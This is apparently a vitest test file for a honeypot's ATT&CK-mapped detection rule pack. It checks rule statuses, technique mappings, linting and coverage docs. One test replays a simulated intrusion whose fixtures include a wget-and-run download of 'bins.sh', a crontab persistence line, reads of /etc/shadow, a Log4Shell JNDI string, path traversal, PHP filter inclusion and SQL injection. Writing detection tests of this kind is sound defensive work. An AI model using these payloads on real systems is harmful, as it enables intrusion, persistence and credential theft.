/**
 * The shipped pack (ttp.md §11, §13 "Pack"): 61 files with §11.2's statuses and mappings,
 * lint without errors or warnings, every in-file test passing, the test floor, every case
 * of §11.3/§11.4 among the tests, every emit current and in its tactic, the example story
 * of CORRECTIONS #7.9, and the coverage table embedded in docs/rules.md.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { beforeAll, describe, expect, it } from 'vitest';
import { between, buildIndex, builtinPackDir, coverageTable, embeddedCoverage, FIELDS_BEGIN, FIELDS_END, inputFieldsTable, KINDS, loadRuleDir, projectInput, RECALL_CASES, TtpEngine, type LoadedRules } from '../../src/ttp/index.js';
import { missingCases } from '../../src/ttp/lint/tests.js';
import type { TestDoc } from '../../src/ttp/rule-schema.js';
import { catalog } from './helpers.js';

/** §11.2: id → status and the techniques it emits. */
const TABLE: Record<string, [status: string, techniques: string]> = {
  R0001: ['stable', 'T1110'], R0002: ['stable', 'T1110.001'], R0003: ['experimental', 'T1110.003'], R0004: ['stable', 'T1110.004'],
  R0005: ['stable', 'T1078'], R0006: ['stable', 'T1078.001'], R0007: ['stable', 'T1595.002 T1190'], R0008: ['stable', 'T1190'],
  R0009: ['stable', 'T1190'], R0010: ['stable', 'T1059.004'], R0011: ['stable', 'T1059'], R0012: ['stable', 'T1105'],
  R0013: ['stable', 'T1083 T1087.001'], R0014: ['stable', 'T1003.008'], R0015: ['stable', 'T1083 T1548.001'], R0016: ['stable', 'T1083'],
  R0017: ['stable', 'T1046 T1595'], R0018: ['stable', 'T1082'], R0019: ['stable', 'T1033'], R0020: ['stable', 'T1016'],
  R0021: ['stable', 'T1049'], R0022: ['stable', 'T1087.002 T1482'], R0023: ['stable', 'T1135'], R0024: ['stable', 'T1136.001'],
  R0025: ['stable', 'T1053.003'], R0026: ['stable', 'T1098.004'], R0027: ['stable', 'T1505.003'], R0028: ['stable', 'T1070.003'],
  R0029: ['stable', 'T1548.003'], R0030: ['experimental', 'T1071 T1071.001'], R0031: ['experimental', 'T1071 T1029'], R0032: ['stable', 'T1485'],
  R0033: ['experimental', 'T1486'], R0034: ['experimental', 'T1567'], R0035: ['experimental', 'T1213'], R0036: ['stable', 'T1552.001 T1552.004'],
  R0037: ['stable', 'T1552.007'], R0038: ['experimental', 'T1611'], R0039: ['experimental', 'T1557.001'], R0040: ['experimental', 'T1602.002'],
  R0041: ['stable', 'T1496 T1586.002'], R0042: ['stable', 'T1566'], R0043: ['stable', 'T1566 T1588.001'], R0044: ['stable', 'T1036.005 T1566.002'],
  R0045: ['stable', 'T1036'], R0046: ['stable', 'T1204.002 T1566.001'], R0047: ['experimental', 'T1566.003'], R0048: ['stable', 'T1027 T1071.003'],
  R0049: ['experimental', 'T1059'], R0050: ['experimental', 'T1059 T1588.002'], R0051: ['experimental', 'T1090'], R0052: ['experimental', 'T1090'],
  R0053: ['experimental', 'T1036'], R0054: ['experimental', 'T1110 T1190 T1566 T1046 T1595 T1078 T1090 T1496'], R0055: ['experimental', 'T1595.002 T1071 T1588 T1090 T1110'],
  R0056: ['experimental', 'T1071.001 T1588.001'], R0057: ['experimental', 'T1071 T1588.001 T1105 T1056'], R0058: ['deprecated', 'T1588'], R0059: ['experimental', 'T1090'],
  R0060: ['stable', 'T1098.004'], R0061: ['stable', 'T1496.001'],
};

let pack: LoadedRules;
beforeAll(async () => {
  pack = await loadRuleDir();
}, 120_000);

const docOf = (file: string): { id: string; tests?: TestDoc[] } => parse(readFileSync(file, 'utf8')) as { id: string; tests?: TestDoc[] };

describe('the shipped pack', () => {
  it('has R0001…R0061, one file each, with §11.2’s statuses and techniques', () => {
    expect(pack.files.map((f) => f.file.split('/').pop())).toEqual(Object.keys(TABLE).map((id) => `${id}.yaml`));
    for (const f of pack.files) {
      const def = f.result.rule?.def;
      expect(def, f.file).toBeDefined();
      const [status, techniques] = TABLE[def?.id ?? ''] ?? ['', ''];
      expect(def?.status, def?.id).toBe(status);
      expect([...new Set(def?.emits.map((e) => e.technique))].sort(), def?.id).toEqual(techniques.split(' ').sort());
      expect(def?.version, def?.id).toBe(def?.id === 'R0060' || def?.id === 'R0061' ? 1 : 2);
    }
    const counts = { stable: 0, experimental: 0, deprecated: 0 };
    for (const f of pack.files) counts[f.result.rule?.def.status ?? 'stable']++;
    expect(counts).toEqual({ stable: 40, experimental: 20, deprecated: 1 });
  });

  it('lints without errors or warnings', () => {
    const problems = pack.files.flatMap((f) => f.result.problems);
    expect(problems.map((p) => `${p.rule_id} ${p.code} ${p.path}: ${p.message}`)).toEqual([]);
  });

  it('passes every in-file test', () => {
    const results = pack.files.flatMap((f) => (f.result.tests ?? []).map((t) => ({ rule: f.result.ruleId, ...t })));
    expect(results.filter((t) => !t.passed).map((t) => `${t.rule} ${t.name}: ${t.message}`)).toEqual([]);
    expect(results.length).toBeGreaterThan(300);
  });

  it('stable rules carry ≥ 2 must-fire and ≥ 2 must-not-fire tests', () => {
    for (const f of pack.files) {
      const def = f.result.rule?.def;
      if (def?.status !== 'stable') continue;
      const not = def.tests.filter((t) => t.expect.techniques.length === 0).length;
      expect(not, def.id).toBeGreaterThanOrEqual(2);
      expect(def.tests.length - not, def.id).toBeGreaterThanOrEqual(2);
    }
  });

  it('holds every case of §11.3 and §11.4, fire and not, as a test', () => {
    const byId = new Map(pack.files.map((f) => [docOf(f.file).id, docOf(f.file)]));
    const missing = RECALL_CASES.filter((c) => missingCases(byId.get(c.rule)?.tests, [c]).length > 0);
    expect(missing).toEqual([]);
    expect(RECALL_CASES.length).toBeGreaterThan(150);
  });

  it('every emit resolves in ATT&CK 18.1, is current and is in its tactic', () => {
    const c = catalog();
    for (const f of pack.files) {
      for (const e of f.result.rule?.def.emits ?? []) {
        const t = c.technique(e.technique);
        expect(t, e.technique).toBeDefined();
        expect(t?.revoked || t?.deprecated, e.technique).toBe(false);
        expect(t?.tactic_ids, `${f.result.ruleId} ${e.technique}`).toContain(e.tacticId);
        expect(c.tactic(e.tacticId)).toBeDefined();
      }
    }
  });

  it('the example story (CORRECTIONS #7.9) gives exactly the pinned techniques', () => {
    const engine = new TtpEngine(buildIndex(pack.rules));
    let ts = Date.UTC(2026, 4, 1, 12, 0, 0);
    const a = { attacker_ip: '198.51.100.23', decky: 'decky-01', service: 'ssh' };
    const b = { attacker_ip: '203.0.113.7', decky: 'decky-03', service: 'http' };
    const rows: Record<string, unknown>[] = [
      ...['123456', 'password', 'admin', '12345', 'qwerty'].map((password) => ({ kind: 'auth_attempt', ...a, username: 'root', password, outcome: 'failure' })),
      { kind: 'auth_attempt', ...a, username: 'root', password: 'toor', outcome: 'success' },
      { kind: 'command', ...a, command_text: 'uname -a' },
      { kind: 'command', ...a, command_text: 'cat /etc/shadow' },
      { kind: 'command', ...a, command_text: 'cd /tmp; wget http://192.0.2.80/bins.sh; chmod +x bins.sh; ./bins.sh' },
      { kind: 'command', ...a, command_text: '(crontab -l; echo "*/5 * * * * /tmp/bins.sh") | crontab -' },
      { kind: 'auth_attempt', ...a, decky: 'decky-02', username: 'root', password: 'toor' },
      { kind: 'credential_reuse', ...a, finding_id: '3f1c0000-0000-4000-8000-000000000001', secret_kind: 'password', principal: 'root', target_count: 2, attempt_count: 2, attacker_count: 1, deckies: ['decky-01', 'decky-02'], services: ['ssh'], reason: 'new_targets' },
      { kind: 'http_request', ...b, method: 'GET', path: '/', user_agent: '${jndi:ldap://203.0.113.7:1389/Exploit}' },
      { kind: 'http_request', ...b, method: 'GET', path: '/..%2f..%2f..%2fetc/passwd', user_agent: 'curl/8.4.0' },
      { kind: 'http_request', ...b, method: 'GET', path: '/index.php?page=php://filter/convert.base64-encode/resource=config.php', user_agent: 'curl/8.4.0' },
      { kind: 'http_request', ...b, method: 'GET', path: '/item.php?id=1%27%20AND%201%3D1--%20-', user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' },
      { kind: 'http_request', ...b, method: 'GET', path: '/', user_agent: 'Mozilla/5.0 zgrab/0.x' },
      { kind: 'http_request', ...b, method: 'POST', path: '/manager/html', user_agent: 'curl/8.4.0' },
      { kind: 'auth_attempt', ...b, username: 'tomcat', password: 's3cret', outcome: 'failure' },
      { kind: 'http_request', ...b, attacker_ip: '192.0.2.61', method: 'GET', path: '/robots.txt', user_agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
    ];
    const got: Record<string, Set<string>> = {};
    for (const row of rows) {
      ts += 2000;
      for (const t of engine.evaluate(projectInput({ ...row, ts } as unknown as Record<string, unknown> & { kind: 'command' }))) (got[t.attacker_ip ?? '?'] ??= new Set()).add(t.technique);
    }
    expect([...(got['198.51.100.23'] ?? [])].sort()).toEqual(['T1003.008', 'T1053.003', 'T1078', 'T1078.001', 'T1082', 'T1105', 'T1110', 'T1110.001', 'T1110.004']);
    expect([...(got['203.0.113.7'] ?? [])].sort()).toEqual(['T1190', 'T1595.002']);
    expect(got['192.0.2.61']).toBeUndefined();
  });

  it('docs/rules.md embeds the current coverage table', () => {
    const doc = readFileSync(join(builtinPackDir(), '..', '..', 'docs', 'rules.md'), 'utf8');
    expect(pack.rules).toHaveLength(61);
    expect(embeddedCoverage(doc)).toBe(coverageTable(pack.rules.map((r) => r.def), catalog()));
    expect(between(doc, FIELDS_BEGIN, FIELDS_END)).toBe(inputFieldsTable(KINDS));
  });
});
